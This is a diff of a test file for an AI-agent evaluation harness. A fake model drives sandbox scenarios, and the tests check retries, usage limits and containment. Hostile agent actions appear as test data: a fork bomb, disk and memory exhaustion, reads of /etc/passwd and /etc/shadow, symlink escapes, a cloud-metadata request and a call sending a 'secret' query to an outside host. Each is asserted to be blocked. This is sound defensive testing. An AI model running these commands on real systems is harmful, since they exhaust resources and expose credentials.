@@ -1,5 +1,5 @@
-import { afterAll, beforeAll, expect, test } from "bun:test";
-import { existsSync, readdirSync } from "node:fs";
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { readdirSync } from "node:fs";
 import { join } from "node:path";
 import { createModelAgent } from "../src/agents/llm/llm.ts";
 import { testApp } from "./support/app.ts";
@@ -56,7 +56,40 @@ beforeAll(() => {
     call("report_friction", { title: "The address in the guide is not there", severity: "high", quote: "/v1/notes" }),
     finish("goal_not_met", "The guide names an address that answers 404."),
   ];
-  fake = serveFakeModel({ key, scenarios: { met: { turns: met }, missed: { turns: missed } } });
+  const soon = { "retry-after-ms": "1" };
+  const fail = (status: number, headers = {}): Turn => ({ fail: { status, headers: { ...soon, ...headers } } });
+  const done = finish("goal_not_met", "That was all.");
+  const command = (text: string, seconds?: number) => call("run_command", { command: text, seconds });
+  const commands = (...all: Turn[]) => ({ turns: [...all, done] });
+  const scenarios = {
+    met: { turns: met },
+    missed: { turns: missed },
+    busy: { first: [fail(429), fail(529)], turns: [done] },
+    down: { turns: [fail(500)] },
+    throttled: { turns: [fail(429, { "retry-after": "9" })] },
+    halved: { first: [{ text: "I will", cut: "half" as const }], turns: [done] },
+    halves: { turns: [{ text: "I will", cut: "half" as const }] },
+    talks: { turns: [{ text: "What do you want me to do?" }] },
+    confused: { turns: [call("open_door", {}), call("fetch_page", { address: 1 }), done] },
+    endless: { turns: Array.from({ length: 50 }, (_, i) => call("ask_human", { question: `Why ${i}?` })) },
+    "slow-tool": commands(command("sleep 100", 60)),
+    hangs: commands(command("sleep 1000 & sleep 1000", 1)),
+    forks: commands(command("f() { f | f & }; f; sleep 5", 20)),
+    fills: commands(command("mkdir -p deep; head -c 3000000000 /dev/zero > deep/big; echo $?", 60)),
+    eats: commands(command("python3 -c 'x = bytearray(900 * 1024 ** 2); print(len(x))'", 20)),
+    roams: commands(
+      call("read_file", { path: "../etc/passwd" }),
+      call("read_file", { path: "/etc/shadow" }),
+      command("ln -s /etc/passwd link; ln -s / root; ls -A"),
+      call("read_file", { path: "link" }),
+      call("write_file", { path: "root/tmp/x", text: "x" }),
+      call("list_files", { path: "root/etc" }),
+      call("fetch_page", { url: "https://elsewhere.test/?q=secret" }),
+      call("http_request", { url: "http://169.254.169.254/latest/meta-data/" }),
+      command("curl -sS -m 5 http://elsewhere.test/"),
+    ),
+  };
+  fake = serveFakeModel({ key, scenarios });
 });
 afterAll(() => fake.stop());
 
@@ -92,17 +125,192 @@ async function runOf(
   const report = slug && (await send("GET", `/api/v1/reports/${slug}`)).body;
   const events = slug ? (await send("GET", `/api/v1/reports/${slug}/trace?limit=500`)).body.events : [];
   const attempts = (await send("GET", `/api/v1/runs/${asked.body.runId}/attempts`)).body;
+  await app.service.stop(0);
   product.site.stop();
   return { ...app, run, report, events, attempts, notes: product.notes };
 }
 
-test("a model reads the docs, writes code, runs it in the sandbox, calls the API and finishes", async () => {
+const kindsOf = (events: { type: string; source: string; tool?: string }[]) =>
+  events.map(({ type, source, tool }) => [type, source === "agent" ? null : source, tool].filter(Boolean).join(" "));
+
+test("a model reads the docs, writes code, runs it in the sandbox, calls the product and finishes", async () => {
   const dataDir = emptyFolder();
   const { run, report, events, notes } = await runOf("met", { dataDir });
-  console.log(JSON.stringify(run, null, 1).slice(0, 3000));
-  for (const e of events) console.log(JSON.stringify(e).slice(0, 400));
-  expect(run).toMatchObject({ status: "completed", agent: { id: "llm", model: "met" }, failureReason: null });
+  expect(run).toMatchObject({ status: "completed", agent: { id: "llm", version: "test", model: "met" }, attempt: 1 });
+  expect(report).toMatchObject({
+    outcome: "succeeded",
+    metrics: { toolCalls: 7, costUsd: 0.01848, costDetail: "7 model calls to met, 840 tokens.", interruptions: 0 },
+  });
   expect(notes).toEqual(["From the sandbox"]);
-  expect(existsSync(join(dataDir, "workspaces")) ? readdirSync(join(dataDir, "workspaces")) : []).toEqual([]);
-  expect(report).toBeDefined();
+  const step = (tool: string, ...between: string[]) => [
+    "usage gateway",
+    `tool_call ${tool}`,
+    ...between,
+    `tool_result ${tool}`,
+  ];
+  expect(kindsOf(events)).toEqual([
+    "milestone",
+    "usage gateway",
+    "thought",
+    ...step("fetch_page", "http", "milestone").slice(1),
+    "usage gateway",
+    "message",
+    ...step("search_docs", "http").slice(1),
+    ...step("fetch_page", "http", "milestone"),
+    ...step("write_file"),
+    ...step("run_command", "http egress"),
+    ...step("http_request", "http"),
+    ...step("finish"),
+    "end",
+  ]);
+  const requests = events.filter(({ type }: { type: string }) => type === "http");
+  expect(requests.map(({ url, provenance }: Record<string, string>) => [url, provenance])).toEqual([
+    ["https://notes.test/", "given"],
+    ["https://notes.test/llms.txt", "guessed"],
+    ["https://notes.test/guide.md", "link"],
+    ["http://notes.test/api/notes", "given"],
+    ["https://notes.test/api/notes", "link"],
+  ]);
+  expect(readdirSync(join(dataDir, "workspaces"))).toEqual([]);
 }, 60_000);
+
+test("where the docs mislead, the goal is missed: the report is capped, and the events say where", async () => {
+  const { run, report, events, notes } = await runOf("missed", { path: "/v1/notes" });
+  expect(run).toMatchObject({ status: "completed" });
+  expect(notes).toEqual([]);
+  expect(report.outcome).toBe("goal_not_met");
+  expect(report.score).toBeLessThanOrEqual(55);
+  const command = events.find(
+    (event: { type: string; tool?: string }) => event.type === "tool_result" && event.tool === "run_command",
+  );
+  expect(command).toMatchObject({ ok: false, output: { exitCode: 1 } });
+  expect(events.find((event: { source: string }) => event.source === "egress")).toMatchObject({
+    status: 404,
+    url: "http://notes.test/v1/notes",
+  });
+  expect(report.frictionPoints.map(({ title }: { title: string }) => title).join()).toContain("/v1/notes (404)");
+}, 60_000);
+
+const results = (
+  events: { type: string; tool: string; ok: boolean; output: Record<string, unknown> }[],
+  tool?: string,
+) =>
+  events.filter((event) => event.type === "tool_result" && event.tool !== "finish" && (!tool || event.tool === tool));
+
+describe("a model that fails", () => {
+  test.each([
+    ["is asked again where it is busy", "busy"],
+    ["is asked again where its answer breaks off", "halved"],
+  ])("%s", async (_, name) => {
+    const { run } = await runOf(name);
+    expect(run).toMatchObject({ status: "completed", attempt: 1 });
+  });
+
+  test.each([
+    ["garbage", "garbage", /^infrastructure: openai-compatible gave no whole answer: .*5 failures in a row/],
+    ["500 for ever", "down", /^infrastructure: openai-compatible answered 500: an error \(5 failures in a row\)/],
+    ["429 for ever", "throttled", /^infrastructure: openai-compatible answered 429: an error \(5 failures in a row\)/],
+    ["half an answer for ever", "halves", /^infrastructure: openai-compatible gave no whole answer: .*5 failures/],
+    [
+      "a refused key",
+      "unauthorized",
+      /^credentials: openai-compatible refused the key \(401\): invalid key; mend OPENAI/,
+    ],
+    [
+      "nothing at all",
+      "silent",
+      /^infrastructure: openai-compatible gave no whole answer: no byte came for 0.5 seconds/,
+    ],
+  ])(
+    "ends the run with the true cause: %s",
+    async (_, name, cause) => {
+      const { run, attempts } = await runOf(name, {
+        env: { EVALD_IDLE_TIMEOUT_SECONDS: name === "silent" ? "1" : "60" },
+      });
+      expect(run).toMatchObject({ status: "failed", report: null, failureReason: expect.stringMatching(cause) });
+      expect(attempts).toHaveLength(name === "unauthorized" ? 1 : 5);
+    },
+    60_000,
+  );
+
+  test("falls silent, asks for tools that are not there or in the wrong way: the goal is missed", async () => {
+    const silent = await runOf("talks");
+    expect(silent.report.outcome).toBe("goal_not_met");
+    expect(silent.events.at(-1).reason).toBe("The model stopped without saying that it had finished.");
+    const { report, events } = await runOf("confused");
+    expect(report.outcome).toBe("goal_not_met");
+    expect(results(events).map(({ tool, ok }) => [tool, ok])).toEqual([
+      ["open_door", false],
+      ["fetch_page", false],
+    ]);
+  });
+});
+
+describe("a limit", () => {
+  test.each([
+    ["calls of tools", { EVALD_MAX_TOOL_CALLS: "10" }, ["tool_calls", 10, "calls", "runner"], 10],
+    ["calls of the model", { EVALD_MAX_MODEL_CALLS: "5" }, ["model_calls", 5, "calls", "gateway"], 5],
+    ["tokens", { EVALD_MAX_TOKENS: "1200" }, ["model_tokens", 1200, "tokens", "gateway"], 10],
+    ["money", { EVALD_MAX_COST_USD: "0.03" }, ["model_cost", 0.03, "USD", "gateway"], 12],
+  ])(
+    "of %s ends the work, after a word to wrap up, and what was done is a result",
+    async (_, env, limit, calls) => {
+      const before = fake.requests.length;
+      const { run, report, events } = await runOf("endless", { env });
+      expect(run.status).toBe("completed");
+      expect(report).toMatchObject({ outcome: "goal_not_met", metrics: { interruptions: calls } });
+      const hits = events.filter(({ type }: { type: string }) => type === "limit");
+      expect(hits.map((hit: Record<string, unknown>) => [hit.limit, hit.value, hit.unit, hit.source])).toEqual([limit]);
+      expect(events.at(-1)).toMatchObject({ type: "end", reason: expect.stringMatching(/^Ended by a limit/) });
+      const asked = fake.requests.slice(before).map(({ body }) => JSON.stringify(body));
+      expect(asked.filter((body) => body.includes("nearly used up")).length).toBeGreaterThan(0);
+      expect(asked[0]).not.toContain("nearly used up");
+    },
+    30_000,
+  );
+
+  test("of time does so too", async () => {
+    const slow = await runOf("slow-tool", { env: { EVALD_RUN_TIMEOUT_SECONDS: "3" } });
+    expect(slow.run.status).toBe("completed");
+    expect(slow.report.outcome).toBe("goal_not_met");
+    expect(slow.events.at(-1).reason).toBe("Ended by a limit of the run: 3 seconds (wall_clock).");
+  }, 30_000);
+});
+
+describe("a command", () => {
+  test("that hangs, forks without end, fills the disk or the memory ends, and the model goes on", async () => {
+    const messages: unknown[] = [];
+    for (const name of ["hangs", "forks", "fills", "eats"]) {
+      const { run, events } = await runOf(name, { env: { EVALD_AGENT_MEMORY_MB: "512" } });
+      expect(run.status).toBe("completed");
+      const [result] = results(events, "run_command");
+      expect(result?.ok).toBe(false);
+      messages.push(result?.output.message);
+    }
+    expect(messages).toEqual([
+      "stopped after 1 seconds",
+      expect.stringMatching(/processes|stopped after|exit code/),
+      expect.stringMatching(/workspace_bytes|File size|exit code/),
+      expect.stringMatching(/memory|exit code/),
+    ]);
+  }, 120_000);
+
+  test("and a file lead nowhere but to the workspace, and a request to the hosts of the run alone", async () => {
+    const { run, events } = await runOf("roams");
+    expect(run.status).toBe("completed");
+    expect(results(events).map(({ tool, ok }) => [tool, ok])).toEqual([
+      ["read_file", false],
+      ["read_file", false],
+      ["run_command", true],
+      ["read_file", false],
+      ["write_file", false],
+      ["list_files", false],
+      ["fetch_page", false],
+      ["http_request", false],
+      ["run_command", true],
+    ]);
+    expect(JSON.stringify(events)).not.toMatch(/root:x|agent:x/);
+    const out = events.filter(({ type }: { type: string }) => type === "http");
+    expect(out.map(({ error }: { error: { kind: string } }) => error?.kind)).toEqual(["refused", "refused", "refused"]);
+  }, 60_000);
+});
